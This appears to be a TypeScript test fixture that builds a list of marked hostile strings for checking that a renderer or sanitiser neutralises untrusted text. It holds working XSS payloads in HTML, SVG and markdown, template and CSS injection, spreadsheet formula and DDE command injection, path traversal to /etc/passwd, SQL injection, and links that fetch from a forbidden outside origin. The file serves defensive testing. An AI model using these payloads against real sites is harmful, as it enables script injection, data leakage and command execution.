export interface HostileString {
  /** Stands in the text wherever it is shown, so that a walk can tell which ones it has met. */
  readonly mark: string;
  readonly text: string;
}

/**
 * What outside text may hold that wants to be more than text: script in every dress HTML, SVG, CSS and markdown know, addresses
 * that are asked for by being shown, formulas, templates, and what breaks out of a string, a tag or a line.
 *
 * @param other origin of a server that must never hear from us
 */
export function hostileStrings(other: string): HostileString[] {
  const at = other.replace('http:', '');
  return strings(other, at).map((make, index) => {
    const mark = `h${String(index).padStart(2, '0')}h`;
    return { mark, text: make(mark, `globalThis.__ran='${mark}'`) };
  });
}

type Make = (mark: string, run: string) => string;

const strings = (other: string, at: string): Make[] => [
  // HTML
  (m, run) => `${m}<script>${run}</script>`,
  (m, run) => `${m}<img src=x onerror="${run}">`,
  (m, run) => `${m}<svg onload="${run}"></svg>`,
  (m, run) => `${m}<svg><script>${run}</script></svg>`,
  (m, run) => `${m}<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (m) => `${m}<iframe src="${other}/${m}"></iframe>`,
  (m) => `${m}<object data="${other}/${m}"></object><embed src="${other}/${m}">`,
  (m) => `${m}<link rel=stylesheet href="${other}/${m}"><link rel=prefetch href="${other}/${m}">`,
  (m) => `${m}<style>@import url(${other}/${m});*{background:url(${other}/${m})}</style>`,
  (m) => `${m}<base href="${other}/${m}/">`,
  (m) => `${m}<meta http-equiv=refresh content="0;url=${other}/${m}">`,
  (m, run) => `${m}<form action="${other}/${m}"><button formaction="javascript:${run}">x</button></form>`,
  (m, run) => `${m}<input autofocus onfocus="${run}">`,
  (m, run) => `${m}<details open ontoggle="${run}">x</details>`,
  (m, run) => `${m}<video><source onerror="${run}"></video><audio src=x onerror="${run}">`,
  (m, run) => `${m}<body onload="${run}"><marquee onstart="${run}">`,
  (m, run) => `${m}<a href="javascript:${run}">x</a><area href="javascript:${run}">`,
  (m, run) => `${m}<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (m, run) => `${m}<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (m, run) => `${m}<svg><style><img src=x onerror="${run}"></style></svg>`,
  (m, run) => `${m}<x-evil onclick="${run}" style="animation:x" onanimationstart="${run}">x</x-evil>`,
  (m, run) => `${m}<!--><img src=x onerror="${run}">-->`,
  (m, run) => `${m}<![CDATA[<img src=x onerror="${run}">]]>`,
  (m, run) => `${m}</title><script>${run}</script>`,
  (m, run) => `${m}</textarea></script></style><script>${run}</script>`,
  (m, run) => `${m}" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  (m, run) => `${m}' onerror='${run}' x='`,
  (m, run) => `${m}\`><script>${run}</script>`,
  (m, run) => `${m}&lt;script&gt;${run}&lt;/script&gt;`,
  (m, run) => `${m}&#60;img src=x onerror=${run}&#62;`,
  (m, run) => `${m}＜script＞${run}＜/script＞`,
  (m, run) => `${m}+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (m, run) => `${m}<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  // Markdown
  (m, run) => `[${m}](javascript:${run})`,
  (m, run) => `[${m}](JaVaScRiPt:${run}//)`,
  (m, run) => `[${m}](<java\tscript:${run}>)`,
  (m, run) => `[${m}](&#106;avascript:${run})`,
  (m, run) => `[${m}](data:text/html;base64,${btoa(`<script>${run}</script>`)})`,
  (m) => `[${m}](file:///etc/passwd)`,
  (m) => `[${m}](${other}/${m} "title")`,
  (m) => `[${m}](${at}/${m})`,
  (m) => `![${m}](${other}/${m}.png)`,
  (m) => `![${m}](${at}/${m}.png "x")`,
  (m, run) => `![${m}](javascript:${run})`,
  (m, run) => `![${m}](data:image/svg+xml,<svg onload="${run}"/>)`,
  (m) => `![${m}](attachment:../../../etc/passwd)`,
  (m) => `![${m}](attachment:evil)`,
  (m, run) => `[${m}][ref]\n\n[ref]: javascript:${run}`,
  (m, run) => `${m} <javascript:${run}>`,
  (m) => `${m} <${other}/${m}>`,
  (m) => `${m} ${other}/${m}`,
  (m, run) => `\`\`\`html"><img src=x onerror=${run}>\n${m}<script>${run}</script>\n\`\`\``,
  (m, run) => `\n\n<div onclick="${run}" style="background:url(${other}/${m})">${m}</div>\n\n`,
  // Templates, styles, spreadsheets, lines
  (m, run) => `${m}{{constructor.constructor("${run}")()}}`,
  (m, run) => `${m}\${${run}}#{${run}}<%= ${run} %>`,
  (m) => `${m}$t(common:brand, {"x":"${other}"})`,
  (m) => `${m};background:url(${other}/${m});}*{background:url(${other}/${m})`,
  (m) => `=HYPERLINK("${other}/${m}","${m}")`,
  (m) => `=WEBSERVICE("${other}/${m}")${m}`,
  (m) => `@SUM(1+1)*cmd|' /C calc'!A0 ${m}`,
  (m, run) => `javascript:${run}//${m}`,
  (m, run) => `data:text/html,<script>${run}</script>${m}`,
  (m, run) => `${m}\u2028${run}\u2029//`,
  (m, run) => `${m}\u202e<script>${run}</script>\u202c\u0000\u001b[31m`,
  (m) => `../../../../etc/${m}.svg"><script src=${other}/${m}></script>`,
  (m) => `${m}'; DROP TABLE fills; --`,
];
